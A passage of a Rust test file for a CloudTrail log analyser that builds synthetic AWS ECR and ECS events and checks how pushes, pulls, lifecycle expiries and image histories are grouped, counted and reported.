//! Sessions rebuilt from AWS's documentation examples and from hand-made edge cases: interleaved
//! pushes, a push split across two files, a refused push, pulls by tag and by digest, split
//! lifecycle runs, and one image's whole story.

use serde_json::{json, Value};

use super::nav::PushKeep;
use super::report::{ImageRef, Outcome, RepoRef, Step};
use super::*;
use crate::analysis::filter::{Field, Filter};
use crate::engine::Engine;

const ACCOUNT: &str = "111122223333";
const REGION: &str = "us-east-1";
const MARY: &str = "arn:aws:iam::111122223333:user/Mary_Major";
const CI: &str = "arn:aws:sts::111122223333:assumed-role/ci-build-role/GitHubActions";
const TASKS: &str = "arn:aws:sts::111122223333:assumed-role/ecsTaskExecutionRole/8f1e2d";
const OTHER: &str = "arn:aws:sts::444455556666:assumed-role/Deploy/session";
const T0: &str = "2026-03-01T10:00:00Z";

/// Events in the order given, numbered; `at` is seconds after [`T0`].
struct Log {
    events: Vec<Value>,
}

fn time(at: i64) -> String {
    crate::model::time::format_iso(crate::model::time::parse_iso(T0).unwrap() + at * 1000)
}

/// The URI of an image of repository `repo` of [`ACCOUNT`]'s registry: `at` is `:tag` or `@digest`.
fn image_uri(repo: &str, at: &str) -> String {
    format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/{repo}{at}")
}

fn identity(arn: &str) -> Value {
    let account = arn.split(':').nth(4).unwrap_or(ACCOUNT);
    if arn.contains(":user/") {
        json!({"type": "IAMUser", "arn": arn, "accountId": account, "accessKeyId": "AKIAEXAMPLEMARY", "userName": "Mary_Major"})
    } else {
        let invoked = if arn.contains("ecsTaskExecutionRole") { json!("ecs-tasks.amazonaws.com") } else { Value::Null };
        json!({"type": "AssumedRole", "arn": arn, "accountId": account, "accessKeyId": format!("ASIA{}", arn.len()),
               "invokedBy": invoked})
    }
}

impl Log {
    fn new() -> Log {
        Log { events: Vec::new() }
    }

    fn add(&mut self, at: i64, source: &str, name: &str, who: &str, req: Value, resp: Value) -> &mut Value {
        let n = self.events.len() + 1;
        let ip = if who.contains("ecsTaskExecutionRole") { "ecs-tasks.amazonaws.com" } else { "203.0.113.12" };
        let ua = if who.contains("ecsTaskExecutionRole") {
            "amazon-ecs-agent/1.79.2 (linux; amd64)"
        } else {
            "docker/24.0.7 go/go1.20.10"
        };
        self.events.push(json!({
            "eventVersion": "1.09", "eventTime": time(at), "eventSource": source, "eventName": name,
            "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": ua, "userIdentity": identity(who),
            "requestParameters": req, "responseElements": resp, "eventID": format!("00000000-0000-4000-8000-{n:012}"),
            "eventType": "AwsApiCall", "recipientAccountId": ACCOUNT
        }));
        self.events.last_mut().unwrap()
    }

    fn ecr(&mut self, at: i64, name: &str, who: &str, req: Value, resp: Value) -> &mut Value {
        self.add(at, "ecr.amazonaws.com", name, who, req, resp)
    }

    fn fail(&mut self, at: i64, name: &str, who: &str, req: Value, code: &str) {
        let e = self.ecr(at, name, who, req, Value::Null);
        e["errorCode"] = json!(code);
        e["errorMessage"] = json!(format!("{code}: refused"));
    }

    fn token(&mut self, at: i64, who: &str) {
        self.ecr(at, "GetAuthorizationToken", who, Value::Null, json!({"authorizationData": [{"proxyEndpoint": "x"}]}));
    }

    fn check(&mut self, at: i64, who: &str, repo: &str, layers: &[&str]) {
        self.ecr(
            at,
            "BatchCheckLayerAvailability",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "layerDigests": layers}),
            Value::Null,
        );
    }

    /// An upload of `layer` with `parts` parts of 10 bytes, from `at` on (one call a second).
    fn upload(&mut self, at: i64, who: &str, repo: &str, id: &str, layer: &str, parts: u64) {
        self.ecr(
            at,
            "InitiateLayerUpload",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT}),
            json!({"uploadId": id, "partSize": 10}),
        );
        for p in 0..parts {
            self.ecr(at + 1 + p.cast_signed(), "UploadLayerPart", who,
                json!({"repositoryName": repo, "registryId": ACCOUNT, "uploadId": id, "partFirstByte": p * 10, "partLastByte": p * 10 + 9}),
                json!({"uploadId": id, "lastByteReceived": p * 10 + 9}));
        }
        self.ecr(
            at + 1 + parts.cast_signed(),
            "CompleteLayerUpload",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "uploadId": id, "layerDigests": [layer]}),
            json!({"uploadId": id, "layerDigest": layer}),
        );
    }

    fn put(&mut self, at: i64, who: &str, repo: &str, tag: &str, digest: &str, layers: &[(&str, u64)]) {
        let manifest = json!({"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
            "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "size": 7, "digest": format!("sha256:config-of-{digest}")},
            "layers": layers.iter().map(|(d, s)| json!({"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip", "size": s, "digest": d})).collect::<Vec<_>>()})
        .to_string();
        self.ecr(at, "PutImage", who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "imageTag": tag, "imageManifest": manifest}),
            json!({"image": {"repositoryName": repo, "registryId": ACCOUNT, "imageId": {"imageDigest": digest, "imageTag": tag}}}));
    }

    fn get(&mut self, at: i64, who: &str, repo: &str, id: Value) {
        self.ecr(
            at,
            "BatchGetImage",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "imageIds": [id]}),
            Value::Null,
        );
    }

    fn layer_url(&mut self, at: i64, who: &str, repo: &str, layer: &str) {
        self.ecr(
            at,
            "GetDownloadUrlForLayer",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "layerDigest": layer}),
            Value::Null,
        );
    }

    /// `RegisterTaskDefinition` of `family:revision`, one container running `image` (a URI).
    fn task_def(&mut self, at: i64, who: &str, family_revision: (&str, u32), image: &str) {
        self.task_def_of(at, who, family_revision, &[image]);
    }

    /// A `RegisterTaskDefinition` of a container per image.
    fn task_def_of(&mut self, at: i64, who: &str, family_revision: (&str, u32), images: &[&str]) {
        self.task_def_as(at, who, family_revision, images, "");
    }

    /// A `RegisterTaskDefinition` of a container per image, giving its tasks `task_role` (none
    /// when empty).
    fn task_def_as(&mut self, at: i64, who: &str, (family, revision): (&str, u32), images: &[&str], task_role: &str) {
        let containers: Vec<Value> =
            images.iter().enumerate().map(|(i, image)| json!({"name": format!("c{i}"), "image": image})).collect();
        let mut req = json!({"family": family, "containerDefinitions": containers});
        if !task_role.is_empty() {
            req["taskRoleArn"] = json!(task_role);
        }
        self.add(
            at,
            "ecs.amazonaws.com",
            "RegisterTaskDefinition",
            who,
            req,
            json!({"taskDefinition": {"family": family, "revision": revision,
                "taskDefinitionArn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/{family}:{revision}")}}),
        );
    }

    /// An ECS service call (`call`) for service `name` of cluster prod, naming task definition
    /// `task_def` (none when empty) and `desired` tasks (none when `None`).
    fn service(&mut self, at: i64, who: &str, (call, name): (&str, &str), task_def: &str, desired: Option<u32>) {
        let mut req = json!({"cluster": "prod", "service": name});
        if !task_def.is_empty() {
            req["taskDefinition"] = json!(task_def);
        }
        if let Some(n) = desired {
            req["desiredCount"] = json!(n);
        }
        self.add(at, "ecs.amazonaws.com", call, who, req, Value::Null);
    }

    /// An `UpdateService` of service `name` of cluster prod with request `req`, answered as ECS
    /// answers: the service as it now is, running task definition `runs` (`family:revision`).
    fn update_service(&mut self, at: i64, who: &str, name: &str, mut req: Value, runs: &str) {
        req["cluster"] = json!("prod");
        req["service"] = json!(name);
        let td = format!("arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/{runs}");
        let resp = json!({"service": {"serviceName": name, "taskDefinition": td, "desiredCount": 4,
            "serviceArn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:service/prod/{name}"),
            "clusterArn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:cluster/prod"), "status": "ACTIVE"}});
        self.add(at, "ecs.amazonaws.com", "UpdateService", who, req, resp);
    }

    fn lifecycle(&mut self, at: i64, name: &str, repo: &str, policy: &str, images: &[(&str, &str)]) {
        let actions: Vec<Value> = images
            .iter()
            .map(|(d, t)| {
                let (status, tags) = if t.is_empty() { ("Untagged", json!([])) } else { ("Tagged", json!([t])) };
                json!({"lifecycleEventImage": {"digest": d, "tagStatus": status, "tagList": tags, "pushedAt": 1_772_000_000_000_i64}, "rulePriority": 1})
            })
            .collect();
        let e = self.ecr(at, name, "", Value::Null, Value::Null);
        e["userIdentity"] = json!({"accountId": ACCOUNT, "invokedBy": "AWS Internal"});
        e["eventType"] = json!("AwsServiceEvent");
        e["serviceEventDetails"] = json!({"repositoryName": repo, "lifecycleEventPolicy": {"lifecycleEventRules": [
            {"rulePriority": 1, "description": "keep 2", "lifecycleEventSelection": {"tagStatus": "Any", "countType": "Image count more than", "countNumber": 2}, "action": "expire"}],
            "policyVersion": 1, "policyId": policy}, "lifecycleEventImageActions": actions});
    }

    fn json(&self, range: std::ops::Range<usize>) -> String {
        json!({"Records": self.events[range].to_vec()}).to_string()
    }

    fn engine(&self) -> Engine {
        let mut e = Engine::new();
        e.ingest_bytes("log.json", self.json(0..self.events.len()).as_bytes());
        e
    }
}

fn ask(e: &Engine, filter: Filter, ask: Ask) -> ContainerAnswer {
    let ix = Index::build(e.store());
    answer(&ix, e.store(), &ContainerQuery { filter, ask })
}

fn repo(name: &str) -> RepoRef {
    RepoRef { registry: ACCOUNT.into(), region: REGION.into(), name: name.into(), public: false }
}

fn pushes(e: &Engine) -> Vec<report::PushItem> {
    match ask(e, Filter::default(), Ask::Pushes { offset: 0, keep: PushKeep::All }) {
        ContainerAnswer::Pushes(p) => p.items,
        other => panic!("{other:?}"),
    }
}

fn pulls(e: &Engine) -> Vec<report::PullItem> {
    match ask(e, Filter::default(), Ask::Pulls { offset: 0, outcome: None }) {
        ContainerAnswer::Pulls(p) => p.items,
        other => panic!("{other:?}"),
    }
}

fn names(events: &[report::EventRef]) -> Vec<&str> {
    events.iter().map(|e| e.name.as_str()).collect()
}

#[test]
fn ok_interleaved_pushes_to_one_repository_are_told_apart_by_their_manifests() {
    // Mary pushes images A and B to web/api at once: calls interleave, B is put first, and both
    // share the base layer `sha256:base` that the registry already has.
    let mut l = Log::new();
    l.token(0, MARY);
    l.check(1, MARY, "web/api", &["sha256:a1", "sha256:base"]);
    l.check(1, MARY, "web/api", &["sha256:b1", "sha256:b2", "sha256:base"]);
    l.upload(2, MARY, "web/api", "up-a1", "sha256:a1", 2); // 2..=5
    l.upload(3, MARY, "web/api", "up-b1", "sha256:b1", 3); // 3..=7
    l.upload(8, MARY, "web/api", "up-b2", "sha256:b2", 1); // 8..=10
    l.put(11, MARY, "web/api", "b", "sha256:imgB", &[("sha256:base", 100), ("sha256:b1", 30), ("sha256:b2", 10)]);
    l.put(12, MARY, "web/api", "a", "sha256:imgA", &[("sha256:base", 100), ("sha256:a1", 20)]);
    let e = l.engine();
    let p = pushes(&e);
    assert_eq!(p.len(), 2, "{p:#?}");
    let (a, b) = (p.iter().find(|p| p.tag == "a").unwrap(), p.iter().find(|p| p.tag == "b").unwrap());
    assert_eq!(
        (a.digest.as_str(), a.outcome, b.digest.as_str(), b.outcome),
        ("sha256:imgA", Outcome::Ok, "sha256:imgB", Outcome::Ok)
    );
    // Layers counted with the config blob; the config blobs were never uploaded (already there).
    assert_eq!((a.layers_uploaded, a.layers_total, a.bytes_uploaded, a.bytes_total), (1, 3, 20, 127));
    assert_eq!((b.layers_uploaded, b.layers_total, b.bytes_uploaded, b.bytes_total), (2, 4, 40, 147));
    // Each push has its own check and uploads; the one token goes to the first to start.
    let count = |p: &report::PushItem, n: &str| p.events.iter().filter(|e| e.name == n).count();
    assert_eq!(
        (count(a, "BatchCheckLayerAvailability"), count(a, "UploadLayerPart"), count(a, "CompleteLayerUpload")),
        (1, 2, 1)
    );
    assert_eq!(
        (count(b, "BatchCheckLayerAvailability"), count(b, "UploadLayerPart"), count(b, "CompleteLayerUpload")),
        (1, 4, 2)
    );
    assert_eq!(count(a, "GetAuthorizationToken") + count(b, "GetAuthorizationToken"), 1);
    assert_eq!(a.events_total + b.events_total, l.events.len() as u32, "every call is in exactly one push");
    assert_eq!(a.who.client, "Docker 24.0.7");
    assert_eq!(a.who.kind, "IAM user");
}

#[test]
fn ok_a_push_split_across_two_files_read_in_reverse_is_one_push() {
    let mut l = Log::new();
    l.token(0, CI);
    l.check(1, CI, "batch/etl", &["sha256:l1", "sha256:l2"]);
    l.upload(2, CI, "batch/etl", "up-1", "sha256:l1", 2); // events 3..=6
    l.put(6, CI, "batch/etl", "v1", "sha256:etl1", &[("sha256:l1", 20), ("sha256:l2", 5)]);
    let mut e = Engine::new();
    // The second file (the end of the upload and PutImage) arrives first.
    e.ingest_bytes("second.json", l.json(4..7).as_bytes());
    e.ingest_bytes("first.json", l.json(0..4).as_bytes());
    let p = pushes(&e);
    assert_eq!(p.len(), 1, "{p:#?}");
    assert_eq!(p[0].events_total, 7);
    assert_eq!(
        names(&p[0].events),
        [
            "GetAuthorizationToken",
            "BatchCheckLayerAvailability",
            "InitiateLayerUpload",
            "UploadLayerPart",
            "UploadLayerPart",
            "CompleteLayerUpload",
            "PutImage"
        ]
    );
    assert_eq!((p[0].layers_uploaded, p[0].bytes_uploaded), (1, 20));
    assert_eq!(p[0].who.kind, "Role session");
    assert_eq!(p[0].start, crate::model::time::parse_iso(T0).unwrap());
}

#[test]
fn ok_a_refused_push_is_a_failed_push_with_its_error() {
    let mut l = Log::new();
    l.token(0, CI);
    l.fail(
        1,
        "InitiateLayerUpload",
        CI,
        json!({"repositoryName": "payments/ledger", "registryId": ACCOUNT}),
        "AccessDeniedException",
    );
    // Another principal's push to the same repository a second later is not part of it.
    l.put(2, MARY, "payments/ledger", "v2", "sha256:ledger2", &[("sha256:x", 1)]);
    let e = l.engine();
    let p = pushes(&e);
    assert_eq!(p.len(), 2);
    let failed = p.iter().find(|p| p.outcome == Outcome::Failed).unwrap();
    assert_eq!((failed.error_code.as_str(), failed.digest.as_str()), ("AccessDeniedException", ""));
    assert_eq!(names(&failed.events), ["GetAuthorizationToken", "InitiateLayerUpload"]);
    assert_eq!(failed.who.principal, CI);
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.pushes, h.failed_pushes, h.incomplete_pushes), (1, 1, 0));
}

#[test]
fn ok_the_headline_tells_refusals_apart_by_their_error() {
    let mut l = Log::new();
    let ids = json!({"repositoryName": "web/api", "registryId": ACCOUNT, "imageIds": [{"imageTag": "v1"}]});
    l.fail(0, "BatchGetImage", MARY, ids.clone(), "ImageNotFoundException");
    l.fail(0, "BatchGetImage", OTHER, ids.clone(), "AccessDeniedException");
    l.fail(0, "BatchGetImage", TASKS, ids.clone(), "ThrottlingException");
    l.fail(
        0,
        "BatchGetImage",
        CI,
        json!({"repositoryName": "gone", "imageIds": [{"imageTag": "v1"}]}),
        "RepositoryNotFoundException",
    );
    let push = json!({"repositoryName": "web/api", "registryId": ACCOUNT});
    l.fail(600, "InitiateLayerUpload", MARY, push.clone(), "AccessDeniedException");
    l.fail(600, "InitiateLayerUpload", CI, push, "LimitExceededException");
    let e = l.engine();
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.failed_pulls, h.failed_pulls_not_found, h.failed_pulls_denied), (4, 2, 1));
    assert_eq!((h.failed_pushes, h.failed_pushes_denied), (2, 1));
}

#[test]
fn ok_a_refused_ecs_call_is_counted_refused_not_deployed() {
    let mut l = Log::new();
    let run = json!({"cluster": "prod", "taskDefinition": "api:3"});
    l.add(0, "ecs.amazonaws.com", "RunTask", CI, run.clone(), Value::Null);
    let e = l.add(60, "ecs.amazonaws.com", "RunTask", MARY, run, Value::Null);
    e["errorCode"] = json!("AccessDeniedException");
    let e = l.add(
        120,
        "ecs.amazonaws.com",
        "UpdateService",
        MARY,
        json!({"cluster": "prod", "service": "api"}),
        Value::Null,
    );
    e["errorCode"] = json!("ServiceNotFoundException");
    let e = l.engine();
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.ecs_calls, h.deployments, h.ecs_refused), (3, 1, 2));
}

#[test]
fn ok_uploads_without_a_put_image_are_an_incomplete_push() {
    let mut l = Log::new();
    l.upload(0, CI, "ml/trainer", "up-x", "sha256:big", 3);
    let e = l.engine();
    let p = pushes(&e);
    assert_eq!(p.len(), 1);
    assert_eq!((p[0].outcome, p[0].layers_uploaded, p[0].bytes_uploaded), (Outcome::Incomplete, 1, 30));
}

#[test]
fn ok_seed_put_image_is_a_bare_push_and_the_seed_pull_resolves_its_tag() {
    // AWS's documentation examples: a PutImage with no uploads (every layer was there) at 16:45 and
    // a BatchGetImage of tag `latest` at 17:23 the same day.
    let seeds = include_str!("../../../tests/fixtures/seeds/ecr-documentation-examples.json");
    let doc: Value = serde_json::from_str(seeds).unwrap();
    let put = doc["Records"].as_array().unwrap().iter().find(|e| e["eventName"] == "PutImage").unwrap();
    let digest = put["responseElements"]["image"]["imageId"]["imageDigest"].as_str().unwrap();
    let manifest: Value = serde_json::from_str(put["requestParameters"]["imageManifest"].as_str().unwrap()).unwrap();
    let mut e = Engine::new();
    e.ingest_bytes("seeds.json", seeds.as_bytes());
    let p = pushes(&e);
    assert_eq!(p.len(), 1);
    assert_eq!((p[0].digest.as_str(), p[0].tag.as_str(), p[0].layers_uploaded), (digest, "latest", 0));
    assert_eq!(p[0].layers_total as usize, manifest["layers"].as_array().unwrap().len() + 1);
    let size: u64 = manifest["layers"].as_array().unwrap().iter().map(|l| l["size"].as_u64().unwrap()).sum::<u64>()
        + manifest["config"]["size"].as_u64().unwrap();
    assert_eq!(p[0].bytes_total, size);
    let q = pulls(&e);
    assert_eq!(q.len(), 1);
    assert_eq!(
        (q[0].requested.as_slice(), q[0].resolved.as_slice()),
        (&["latest".to_owned()][..], &[digest.to_owned()][..])
    );
    assert_eq!(q[0].outcome, Outcome::Ok);
    // The lifecycle example expires two images in one run.
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.pushes, h.pulls, h.lifecycle_runs, h.expired_images), (1, 1, 1, 2));
}

#[test]
fn ok_pull_by_digest_with_its_layers_and_a_failed_pull() {
    let mut l = Log::new();
    l.put(0, CI, "web/frontend", "v3", "sha256:fe3", &[("sha256:f1", 10), ("sha256:f2", 10)]);
    l.token(100, TASKS);
    l.get(101, TASKS, "web/frontend", json!({"imageDigest": "sha256:fe3"}));
    l.layer_url(102, TASKS, "web/frontend", "sha256:f1");
    l.layer_url(102, TASKS, "web/frontend", "sha256:f2");
    l.fail(
        103,
        "BatchGetImage",
        OTHER,
        json!({"repositoryName": "web/frontend", "registryId": ACCOUNT, "imageIds": [{"imageTag": "nope"}]}),
        "ImageNotFoundException",
    );
    // Someone else's layer download with no BatchGetImage: a pull of its own, not part of the task's.
    l.layer_url(104, MARY, "web/frontend", "sha256:f1");
    let e = l.engine();
    let p = pulls(&e);
    assert_eq!(p.len(), 3, "{p:#?}");
    let task = p.iter().find(|p| p.who.principal == TASKS).unwrap();
    assert_eq!(
        (task.resolved.as_slice(), task.layers_fetched, task.outcome),
        (&["sha256:fe3".to_owned()][..], 2, Outcome::Ok)
    );
    assert_eq!(
        names(&task.events),
        ["GetAuthorizationToken", "BatchGetImage", "GetDownloadUrlForLayer", "GetDownloadUrlForLayer"]
    );
    assert_eq!(task.who.kind, "ECS task execution role");
    assert_eq!(task.who.client, "ECS agent 1.79.2");
    let failed = p.iter().find(|p| p.outcome == Outcome::Failed).unwrap();
    assert_eq!(failed.error_code, "ImageNotFoundException");
    assert!(failed.who.cross_account, "a role of account 444455556666");
    let stray = p.iter().find(|p| p.who.principal == MARY).unwrap();
    assert_eq!((stray.outcome, stray.layers_fetched), (Outcome::Incomplete, 1));
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.pulls, h.failed_pulls, h.incomplete_pulls, h.cross_account_pulls), (2, 1, 1, 0));
    // The list's switch keeps what the headline counts: the task's pull and the stray download
    // went through, the refused one did not.
    let principals = |outcome| match ask(&e, Filter::default(), Ask::Pulls { offset: 0, outcome }) {
        ContainerAnswer::Pulls(page) => {
            let mut who: Vec<String> = page.items.into_iter().map(|p| p.who.principal).collect();
            who.sort();
            who
        }
        other => panic!("{other:?}"),
    };
    let mut went_through = vec![TASKS.to_owned(), MARY.to_owned()];
    went_through.sort();
    assert_eq!(principals(Some(Outcome::Ok)), went_through);
    assert_eq!(principals(Some(Outcome::Incomplete)), [MARY]);
    assert_eq!(principals(Some(Outcome::Failed)), [OTHER]);
    assert_eq!(principals(None).len(), 3);
}

#[test]
fn ok_an_event_belongs_to_the_image_of_its_session() {
    // Rows in log order: 0 PutImage, 1 token, 2 pull by tag, 3 its layer, 4 a pull of two images,
    // 5 an unrelated S3 call, 6 a lifecycle expiry.
    let mut l = Log::new();
    l.put(0, CI, "web/frontend", "v3", "sha256:fe3", &[("sha256:f1", 10)]);
    l.token(100, TASKS);
    l.get(101, TASKS, "web/frontend", json!({"imageTag": "v3"}));
    l.layer_url(102, TASKS, "web/frontend", "sha256:f1");
    l.ecr(
        200,
        "BatchGetImage",
        MARY,
        json!({"repositoryName": "web/frontend", "registryId": ACCOUNT,
        "imageIds": [{"imageDigest": "sha256:fe3"}, {"imageDigest": "sha256:other"}]}),
        Value::Null,
    );
    l.add(300, "s3.amazonaws.com", "GetObject", MARY, json!({"bucketName": "b"}), Value::Null);
    l.lifecycle(400, "PolicyExecutionEvent", "web/frontend", "pol-1", &[("sha256:fe3", "v3")]);
    let e = l.engine();
    let ix = Index::build(e.store());
    let image = ImageRef { repo: repo("web/frontend"), digest: "sha256:fe3".into() };
    let at = |name: &str, secs: i64| -> Row {
        let want = crate::model::time::parse_iso(&time(secs)).unwrap();
        (0..e.store().len() as Row)
            .find(|&r| e.store().str(e.store().name(r)) == name && e.store().time(r) == want)
            .unwrap_or_else(|| panic!("no {name} at {secs}"))
    };
    let full = (Some(repo("web/frontend")), Some(image));
    assert_eq!(ix.belongs(e.store(), at("PutImage", 0)), full);
    assert_eq!(ix.belongs(e.store(), at("BatchGetImage", 101)), full, "the tag meant sha256:fe3 then");
    assert_eq!(ix.belongs(e.store(), at("GetDownloadUrlForLayer", 102)), full);
    assert_eq!(ix.belongs(e.store(), at("BatchGetImage", 200)), (Some(repo("web/frontend")), None), "two images");
    assert_eq!(ix.belongs(e.store(), at("GetObject", 300)), (None, None));
    assert_eq!(ix.belongs(e.store(), at("PolicyExecutionEvent", 400)), (Some(repo("web/frontend")), None));
}

#[test]
fn ok_split_lifecycle_events_are_one_run_and_previews_stay_previews() {
    let digests: Vec<String> = (0..23).map(|i| format!("sha256:old{i:02}")).collect();
    let images: Vec<(&str, &str)> = digests.iter().map(|d| (d.as_str(), "t")).collect();
    let mut l = Log::new();
    // ECR splits a run of 23 images into events of 10, 10 and 3, delivered out of order.
    l.lifecycle(0, "PolicyExecutionEvent", "data/ingest", "pol-1", &images[20..]);
    l.lifecycle(0, "PolicyExecutionEvent", "data/ingest", "pol-1", &images[..10]);
    l.lifecycle(1, "PolicyExecutionEvent", "data/ingest", "pol-1", &images[10..20]);
    // A preview the day before, and the next day's run.
    l.lifecycle(-86_400, "DryRunEvent", "data/ingest", "pol-1", &images[..3]);
    l.lifecycle(86_400, "PolicyExecutionEvent", "data/ingest", "pol-1", &images[..1]);
    let e = l.engine();
    let ContainerAnswer::Lifecycle(runs) = ask(&e, Filter::default(), Ask::Lifecycle { offset: 0 }) else { panic!() };
    assert_eq!(runs.total, 3);
    let big = runs.items.iter().find(|r| r.images_total == 23).expect("one run of 23");
    assert_eq!((big.events_total, big.preview), (3, false));
    assert_eq!(big.rules[0].selection, "any images, image count more than 2");
    assert!(runs.items.iter().any(|r| r.preview && r.images_total == 3));
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!((h.lifecycle_runs, h.lifecycle_previews, h.expired_images), (2, 1, 24));
}

#[test]
fn ok_an_image_page_tells_the_whole_story() {
    let repo_name = "web/api";
    let uri = format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/{repo_name}:latest");
    let mut l = Log::new();
    l.ecr(
        0,
        "CreateRepository",
        MARY,
        json!({"repositoryName": repo_name, "encryptionConfiguration": {"encryptionType": "KMS"}}),
        json!({"repository": {"repositoryName": repo_name, "registryId": ACCOUNT}}),
    );
    l.token(10, CI);
    l.upload(11, CI, repo_name, "up-1", "sha256:l1", 1);
    l.put(14, CI, repo_name, "latest", "sha256:one", &[("sha256:l1", 10)]);
    l.add(20, "ecs.amazonaws.com", "RegisterTaskDefinition", CI,
        json!({"family": "api", "containerDefinitions": [{"name": "api", "image": uri}]}),
        json!({"taskDefinition": {"family": "api", "revision": 3, "taskDefinitionArn": format!("arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/api:3")}}));
    l.add(
        30,
        "ecs.amazonaws.com",
        "CreateService",
        CI,
        json!({"cluster": "prod", "serviceName": "api", "taskDefinition": "api:3", "desiredCount": 2}),
        Value::Null,
    );
    l.get(40, TASKS, repo_name, json!({"imageTag": "latest"}));
    l.layer_url(41, TASKS, repo_name, "sha256:l1");
    l.put(50, CI, repo_name, "latest", "sha256:two", &[("sha256:l1", 10)]);
    // After the tag moved, this task runs the new image: not part of the first image's story.
    l.add(60, "ecs.amazonaws.com", "RunTask", CI, json!({"cluster": "prod", "taskDefinition": "api"}), Value::Null);
    l.lifecycle(70, "PolicyExecutionEvent", repo_name, "pol", &[("sha256:one", "latest")]);
    let e = l.engine();
    let page = |digest: &str| match ask(
        &e,
        Filter::default(),
        Ask::Image(ImageRef { repo: repo(repo_name), digest: digest.into() }),
    ) {
        ContainerAnswer::Image(Some(p)) => p,
        other => panic!("{other:?}"),
    };
    let one = page("sha256:one");
    let kinds: Vec<&str> = one
        .story
        .iter()
        .map(|s| match s {
            Step::Pushed(_) => "pushed",
            Step::TaskDefinition(_) => "task definition",
            Step::Deployed(d) => {
                if d.call == "CreateService" {
                    "service"
                } else {
                    "task"
                }
            }
            Step::Pulled(_) => "pulled",
            Step::TagMoved { .. } => "tag moved",
            Step::Expired(_) => "expired",
            Step::Deleted { .. } => "deleted",
            Step::UsedBy(_) => "used by",
        })
        .collect();
    assert_eq!(kinds, ["pushed", "task definition", "service", "pulled", "tag moved", "expired"]);
    assert_eq!((one.status.as_str(), one.tags.as_slice(), one.pulls), ("expired", &["latest".to_owned()][..], 1));
    assert!(one.current_tags.is_empty());
    let Step::Deployed(svc) = &one.story[2] else { panic!() };
    assert_eq!((svc.cluster.as_str(), svc.service.as_str(), svc.task_definition.as_str()), ("prod", "api", "api:3"));
    assert!(svc.images[0].via_tag);
    let Step::Pushed(push) = &one.story[0] else { panic!() };
    assert_eq!(push.layers.iter().filter(|l| l.uploaded).count(), 1);
    // The second image: pushed over the tag, then the task ran it.
    let two = page("sha256:two");
    assert!(two
        .story
        .iter()
        .any(|s| matches!(s, Step::Deployed(d) if d.call == "RunTask" && d.task_definition == "api:3")));
    assert_eq!((two.status.as_str(), two.current_tags.as_slice()), ("present", &["latest".to_owned()][..]));
    // The repository page knows its creation and both images.
    let ContainerAnswer::Repository(Some(r)) = ask(&e, Filter::default(), Ask::Repository(repo(repo_name))) else {
        panic!()
    };
    assert_eq!(r.summary.encryption, "KMS");
    assert_eq!((r.summary.pushes, r.summary.pulls, r.summary.images, r.summary.expired), (2, 1, 2, 1));
    assert_eq!(r.changes[0].call, "CreateRepository");
    assert_eq!(r.timeline.pushes.iter().sum::<u32>(), 2);
    // An image was pushed when its `PutImage` went through (ECR's `imagePushedAt`), not at the
    // push's first call (its token, 4 s before).
    let at = |s: i64| crate::model::time::parse_iso(&time(s)).unwrap();
    let pushed: Vec<_> = r.images.iter().map(|i| (i.digest.as_str(), i.pushed)).collect();
    assert_eq!(pushed, [("sha256:two", Some(at(50))), ("sha256:one", Some(at(14)))]);
}

/// The repository of [`image_uses`] and its images' URI without tag or digest.
const USED: &str = "ml/kmeans";

fn used_base() -> String {
    format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/{USED}")
}

/// `ml/kmeans:latest` pushed (`sha256:one`), named by three other services' writes (one refused),
/// a read and a Docker Hub image beside, then `latest` pushed again (`sha256:two`) and named.
fn image_uses() -> Engine {
    image_uses_log().engine()
}

/// The log of [`image_uses`].
fn image_uses_log() -> Log {
    let repo_name = USED;
    let base = used_base();
    let mut l = Log::new();
    l.token(0, CI);
    l.upload(1, CI, repo_name, "up-1", "sha256:l1", 1);
    l.put(4, CI, repo_name, "latest", "sha256:one", &[("sha256:l1", 10)]);
    // SageMaker's CreateModel as AWS's SageMaker guide shows it logged, naming the image by tag.
    l.add(
        10,
        "sagemaker.amazonaws.com",
        "CreateModel",
        MARY,
        json!({"modelName": "ExampleModel", "primaryContainer": {"image": format!("{base}:latest")},
               "executionRoleArn": format!("arn:aws:iam::{ACCOUNT}:role/EXAMPLEARN")}),
        json!({"modelArn": format!("arn:aws:sagemaker:{REGION}:{ACCOUNT}:model/examplemodel")}),
    );
    // A Batch job definition naming it by digest, deeper in its request.
    l.add(
        20,
        "batch.amazonaws.com",
        "RegisterJobDefinition",
        CI,
        json!({"jobDefinitionName": "train", "type": "container",
               "containerProperties": {"image": format!("{base}@sha256:one"), "command": ["train"]}}),
        Value::Null,
    );
    // A read names it too, and is no use of it.
    l.add(
        30,
        "sagemaker.amazonaws.com",
        "DescribeModel",
        MARY,
        json!({"modelName": "ExampleModel", "image": format!("{base}:latest")}),
        Value::Null,
    )["readOnly"] = json!(true);
    // Refused: in the story, as refused.
    l.add(
        40,
        "codebuild.amazonaws.com",
        "CreateProject",
        MARY,
